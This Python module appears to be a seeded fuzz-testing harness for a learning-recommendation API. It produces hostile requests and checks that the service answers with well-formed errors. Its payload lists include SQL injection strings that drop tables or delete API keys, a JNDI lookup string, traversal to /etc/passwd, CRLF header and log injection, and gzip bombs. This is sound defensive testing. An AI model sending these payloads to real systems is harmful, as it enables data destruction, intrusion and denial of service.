"""Hostile requests, drawn from a seed, and what an answer to one must be: what failed once can be sent again.

Most are right requests with something exchanged for something hostile, so that they get past the first check: values, raw
tokens of JSON, bytes, compression, media types, headers, paths, queries, methods.
"""

import gzip
import json
import random
from collections.abc import Callable, Iterator, Sequence
from copy import deepcopy
from typing import Any, Final, NamedTuple
from urllib.parse import quote

from starlette.routing import Route

from serving.app import APIS, Pages
from serving.problems import PROBLEM_JSON
from serving.settings import Settings

AT: Final = "2026-06-01T12:00:00+00:00"
STATEMENT: Final[dict[str, Any]] = {
    "id": "8f87ccde-bb56-4c2e-ab83-44982ef22df0",
    "actor": {"account": {"homePage": "https://lms.example", "name": "ana"}},
    "verb": {"id": "http://adlnet.gov/expapi/verbs/completed", "display": {"en": "did"}},
    "object": {"id": "https://lms.example/1", "definition": {"type": "http://a.example/t", "name": {"en": "One"}}},
    "result": {
        "score": {"raw": 1, "min": 0, "max": 2, "scaled": 0.5},
        "duration": "PT1M",
        "extensions": {"http://a.example/x": 1},
    },
    "context": {"contextActivities": {"parent": [{"id": "https://lms.example"}]}, "language": "en"},
    "timestamp": AT,
}
EVENT: Final = {"event_id": "e", "learner_id": "ana", "verb": "completed", "object_id": "calm", "occurred_at": AT}
EVIDENCE: Final = {"event_id": "v", "learner_id": "ana", "skill": "data", "kind": "attested", "by": "ben", "level": 2}
ITEM: Final = {"id": "n", "title": "New", "skills": {"data": 1}, "valid_for": "P1Y", "available_from": AT}
LEARNER: Final = {"id": "new", "aliases": ["alias"], "spells": [{"since": AT}], "timezone": "Europe/Paris"}
DONE: Final = {"event_id": "d", "item_id": "calm", "did": "opened", "occurred_at": AT}
CALLS: Final[dict[tuple[str, str], Any]] = {
    ("POST", "/v1/recommendations"): {"learner_id": "ana", "limit": 3, "exclude": ["calm"], "max_minutes": 9.5, "surface": "x"},
    ("POST", "/v1/rank"): {"learner_id": "ana", "candidates": ["calm", "data"], "types": ["course"], "languages": ["en"]},
    ("POST", "/v1/explain"): {"learner_id": "ana", "items": ["calm", "x"], "limit": 3, "languages": ["en"]},
    ("POST", "/v1/events"): [{**EVENT, "result": {"score": 1}, "context": {"site": {"a": [1]}}}],
    ("POST", "/v1/evidence"): [{**EVIDENCE, "occurred_at": AT}],
    ("POST", "/v1/feedback"): {"learner_id": "ana", "item_id": "calm", "feedback": "later", "until": AT},
    ("POST", "/v1/nudge"): {"learner_id": "ana", "channel": "email", "format": "email"},
    ("PUT", "/v1/learners/{learner_id}/nudges"): {"choice": "resume", "until": None},
    ("POST", "/v1/slates/replay"): {"learner_id": "ana", "slate": "nws1.e30.x", "done": [DONE]},
    ("POST", "/v1/rules:dry-run"): {"rules": [{"id": "r", "kind": "exclude", "match": {"items": ["calm"]}}], "decisions": 3},
    ("POST", "/v1/learners/{learner_id}/merge"): {"into": "ben", "occurred_at": AT},
    ("POST", "/v1/learners/{learner_id}/unmerge"): {"into": "ben", "occurred_at": AT},
    ("POST", "/v1/tokens"): {"learner_id": "ana", "ttl_s": 60, "scopes": ["rank"]},
    ("POST", "/xapi/statements"): [STATEMENT],
    ("PUT", f"/xapi/statements?statementId={STATEMENT['id']}"): STATEMENT,
    ("PUT", "/v1/items"): [ITEM],
    ("PUT", "/v1/skills"): [{"id": "s", "name": "S"}],
    ("PUT", "/v1/roles"): [{"id": "r", "name": "R", "expects": {"s": 1}}],
    ("PUT", "/v1/learners"): [LEARNER],
    ("PUT", "/v1/assignments"): [{"id": "a", "item_id": "n", "learner_id": "ana", "due_at": AT}],
}
"""Right as they are, for every route that takes a body."""
FORGED: Final = "nw-forged-line"
"""What a line of the log would begin with if words of a request could end the line before it."""

LONGEST: Final = 2_000
"""Characters of the words of a problem."""

_WORDS: Final = (
    *("", " ", "\x00", "\u2028", "\U0001f600" * 40, "x" * 300, "a" * 70_000, "%00", "\u202egnp", "\ufeff", "é" * 257),
    *("'; DROP TABLE events; --", "' OR '1'='1", "1); DELETE FROM api_keys; --", "\\'; SELECT pg_sleep(9); --", "%' ESCAPE '!"),
    *(
        f"\r\n{FORGED} 500",
        f"\n{FORGED}",
        "\x1b[2J\x1b[31m",
        "${jndi:ldap://a.example/x}",
        "%s%n%d{0}{tenant}",
        "../../etc/passwd",
    ),
    *(
        "9999-12-31T23:59:59Z",
        "0001-01-01T00:00:00Z",
        "2026-06-01T24:00:00Z",
        "2016-12-31T23:59:60Z",
        "P99999999999D",
        "PT1e9S",
    ),
    *("NaN", "Infinity", "null", "true", "mailto:a@b", "urn:uuid:x", "{8f87ccde-bb56-4c2e-ab83-44982ef22df0}", "0000:99:99.9"),
)
_VALUES: Final[tuple[Any, ...]] = (
    *(None, True, False, 0, -1, 2**31, 2**63, 2**64, 10**40, 10**400, 0.1, -0.0, 1e308, 5e-324),
    *([], {}, [[]], [{}], {"": None}, {"a": {"a": {"a": [1]}}}, [0] * 5_000, {f"k{n}": n for n in range(2_000)}),
)
_TOKENS: Final = (
    *(b"NaN", b"-Infinity", b"1e400", b"-1e999999", b"9" * 5_000, b"0x10", b"01", b"1_0", b"'a'", b"undefined", b"1.", b"--1"),
    *(
        b'"\\ud800"',
        b'"\\udfff\\ud800"',
        b'"\xff\xfe"',
        b'"\xc0\xaf"',
        b'"\xed\xa0\x80"',
        b'"\xf4\x90\x80\x80"',
        b'"a',
        b'"\x01"',
    ),
    *(b'{"a": 1, "a": 2}', b'{"__proto__": {}}', b"[" * 200 + b"]" * 200, b"[" * 100_000, b'{"a":' * 100_000, b"[" * 400_000),
    *(b'{"a":' * 900 + b"1" + b"}" * 900, b'[{"a":' * 5_000 + b"1" + b"}]" * 5_000),
)
_NAMES: Final = ("more", "id", "objectType", "", "\x00", "learner_id", "mbox", "account", "extensions", "tenant", "x" * 300)
_BOMB: Final = gzip.compress(b" " * 50_000_000, 9)
_NESTED_BOMB: Final = gzip.compress(gzip.compress(b"[" * 50_000_000, 9), 9)
_METHODS: Final = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE")
_QUERIES: Final = (
    *(
        "at=now",
        "at=9999-12-31T23:59:59%2B14:00",
        "at=",
        "at=a&at=b",
        "skill=%00",
        "why=%00",
        "limit=1e9",
        "%00=%00",
        "limit=-1",
        "&&&=",
    ),
    *("statementId=%00", "statementId=a&voidedStatementId=b", "voidedStatementId=8f87ccde-bb56-4c2e-ab83-44982ef22df0"),
    *(
        "snapshot=true",
        "snapshot=true&most_vanish=NaN",
        "most_vanish=1e400",
        "snapshot=%ff",
        "x=" + "y" * 5_000,
        "%0d%0aSet-Cookie:a=b",
    ),
)
_MEDIA: Final = (
    *(b"multipart/form-data; boundary=x", b"multipart/mixed; boundary=x", b"multipart/form-data", b"text/plain", b"", b"\xff"),
    *(b"application/x-www-form-urlencoded", b"application/vnd.bentoml+pickle", b"application/json; charset=utf-16"),
)
_MULTIPART: Final = b'--x\r\nContent-Disposition: form-data; name="learner_id"; filename="../a"\r\n\r\nana\r\n--x--\r\n'


class Hostile(NamedTuple):
    """One request as it goes over the wire. `target`: path and query, percent-encoded."""

    method: str
    target: str
    headers: Sequence[tuple[bytes, bytes]]
    body: bytes


def hostile(seed: int, number: int, *, keys: Sequence[str], routes: Sequence[str]) -> Iterator[Hostile]:
    """`number` requests with one of the keys, which open everything, to the `routes` of the service (`/v1/items/{item_id}`)."""
    rng = random.Random(seed)
    for _ in range(number):
        make = rng.choices(_KINDS, _WEIGHTS)[0]
        method, target, more, body = make(rng, routes)
        yield Hostile(method, target, _headers(rng, rng.choice(keys), more), body)


def fault_of(asked: Hostile, status: int, media: str, body: bytes) -> str | None:
    """What is wrong with an answer; None where nothing is."""
    if status >= 500:
        return f"{status} {body[:300]!r}"
    if status < 400 or asked.method == "HEAD":
        return None
    if not media.startswith(PROBLEM_JSON):
        return f"{status} as {media}: {body[:300]!r}"
    said = json.loads(body)
    if status in (400, 422) and not said.get("field"):
        return f"{status} names no field: {said}"
    words = said.get("detail", "")
    return None if 0 < len(words) <= LONGEST else f"{status} says {words[:300]!r}"


def routes() -> list[str]:
    """Every path of the service, once."""
    mounted = [route.path.replace(":path}", "}") for route in Pages(Settings()).app.routes if isinstance(route, Route)]
    return sorted({*APIS, *mounted})


def places(body: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every place in a body."""
    yield path
    parts = body.items() if isinstance(body, dict) else enumerate(body) if isinstance(body, list) else ()
    for name, part in parts:
        yield from places(part, (*path, name))


_Made = tuple[str, str, dict[bytes, bytes], bytes]
_JSON: Final = {b"content-type": b"application/json"}


def _exchanged(rng: random.Random, routes: Sequence[str]) -> _Made:
    """A right body with one to three values exchanged or added."""
    method, path, body = _call(rng)
    for _ in range(rng.choice((1, 1, 1, 2, 3))):
        body = _exchange(rng, body, _word(rng) if rng.random() < 0.6 else deepcopy(rng.choice(_VALUES)))
    return method, path, _JSON, json.dumps(body, ensure_ascii=rng.random() < 0.7).encode("utf-8", "surrogatepass")


def _token(rng: random.Random, routes: Sequence[str]) -> _Made:
    """A right body with one value exchanged for raw bytes that are no value, or one that is hard to read."""
    method, path, body = _call(rng)
    text = json.dumps(_exchange(rng, body, "@here@")).encode()
    return method, path, _JSON, text.replace(b'"@here@"', rng.choice(_TOKENS), 1)


def _bytes(rng: random.Random, routes: Sequence[str]) -> _Made:
    """A right body with some bytes changed, cut off, or sent twice."""
    method, path, body = _call(rng)
    text = bytearray(json.dumps(body).encode())
    for _ in range(rng.randint(0, 4)):
        text[rng.randrange(len(text))] = rng.randrange(256)
    cut = rng.choice((len(text), rng.randrange(len(text)), 0))
    return method, path, _JSON, bytes(text[:cut]) * rng.choice((1, 1, 1, 2))


def _packed(rng: random.Random, routes: Sequence[str]) -> _Made:
    """A bomb, a bomb within one, two members, half of one, or no gzip at all."""
    method, path, body = _call(rng)
    whole = gzip.compress(json.dumps(body).encode(), 1)
    cut = whole[: rng.randrange(len(whole))]
    sent = rng.choice((_BOMB, _NESTED_BOMB, whole, whole + whole, cut, b"plain", b"", whole + b"\x00"))
    coding = rng.choice((b"gzip", b"gzip", b"gzip", b"GZIP", b"deflate", b"br", b"gzip, gzip", b"\xff"))
    return method, path, {**_JSON, b"content-encoding": coding}, sent


def _many(rng: random.Random, routes: Sequence[str]) -> _Made:
    """More rows than are taken, or as many as just are, all the same."""
    method, path, body = _call(rng)
    row = body[0] if isinstance(body, list) else body
    return method, path, _JSON, b"[" + b",".join([json.dumps(row).encode()] * rng.choice((0, 1_000, 1_001, 5_000))) + b"]"


def _otherwise(rng: random.Random, routes: Sequence[str]) -> _Made:
    """Another media type: forms, parts, pickles."""
    method, path, body = _call(rng)
    sent = rng.choice((_MULTIPART, b"learner_id=ana", b"\x80\x04.", json.dumps(body).encode(), _MULTIPART[:40]))
    return method, path, {b"content-type": rng.choice(_MEDIA)}, sent


def _anywhere(rng: random.Random, routes: Sequence[str]) -> _Made:
    """Any method on any route, with hostile words in the path and in the query."""
    path = rng.choice(routes)
    while "{" in path:
        before, _, rest = path.partition("{")
        word = rng.choice(("ana", "cy", "calm", "nobody", _word(rng)[:2_000]))
        path = before + quote(word, safe=rng.choice(("", "/"))) + rest.partition("}")[2]
    path += rng.choice(("", "", "", "/", "%00", "/%2e%2e/%2e%2e", "%ff", "//", ";a=b"))
    query = rng.choice(("", f"?{rng.choice(_QUERIES)}", f"?{quote(_word(rng)[:500])}={quote(_word(rng)[:500])}"))
    _, _, body = _call(rng)
    return rng.choice(_METHODS), path + query, _JSON, rng.choice((b"", json.dumps(body).encode()))


def _credential(rng: random.Random, routes: Sequence[str]) -> _Made:
    """Keys that are none."""
    method, path, body = _call(rng)
    scheme = rng.choice((b"Bearer", b"Basic", b"bearer", b"", b"Digest", b"Bearer Bearer"))
    secret = rng.choice((b"", b"x" * 9_000, b"\xff\xfe", b"OjpjOg==", b"====", b"nw_aaaaaaaa_" + b"a" * 43, b"' OR 1=1 --"))
    return method, path, {**_JSON, b"authorization": scheme + b" " + secret}, json.dumps(body).encode()


_KINDS: Final[tuple[Callable[[random.Random, Sequence[str]], _Made], ...]] = (
    *(_exchanged, _token, _bytes, _packed, _many, _otherwise, _anywhere, _credential),
)
_WEIGHTS: Final = (45, 15, 10, 5, 0.5, 3, 18, 4)


def _call(rng: random.Random) -> tuple[str, str, Any]:
    """A right call, of which some ids are new each time."""
    method, path = rng.choice(_PATHS)
    body = deepcopy(CALLS[method, path])
    for row in body if isinstance(body, list) else [body]:
        if "event_id" in row:
            row["event_id"] = f"e{rng.randrange(10_000)}"
        if "learner_id" in row:  # several, for some are erased on the way
            row["learner_id"] = rng.choice(("ana", "cy", "di", "eve", "fay"))
    return method, path, body


_PATHS: Final = sorted(CALLS)


def _exchange(rng: random.Random, body: Any, value: Any) -> Any:
    """The body with another value at one of its places, or with one more field."""
    *way, last = rng.choice([place for place in places(body) if place] or [()]) or ("",)
    if last == "" or rng.random() < 0.03:
        return value
    spot = body
    for step in way:
        spot = spot[step]
    if isinstance(spot, dict) and rng.random() < 0.3:
        spot[rng.choice(_NAMES)] = value
    else:
        spot[last] = value
    return body


def _word(rng: random.Random) -> str:
    if rng.random() < 0.8:
        return rng.choice(_WORDS)
    return "".join(
        chr(rng.choice((rng.randrange(32), rng.randrange(0x20, 0x250), rng.randrange(0xE000, 0x11000)))) for _ in range(9)
    )


def _headers(rng: random.Random, key: str, more: dict[bytes, bytes]) -> list[tuple[bytes, bytes]]:
    version = rng.choice((b"1.0.3", b"1.0.3", b"2.0.0", b"0.95", b"\xff", b"1" * 900))
    found = {b"authorization": f"Bearer {key}".encode(), b"x-experience-api-version": version, **more}
    return [(name, value) for name, value in found.items() if value or name != b"content-type"]
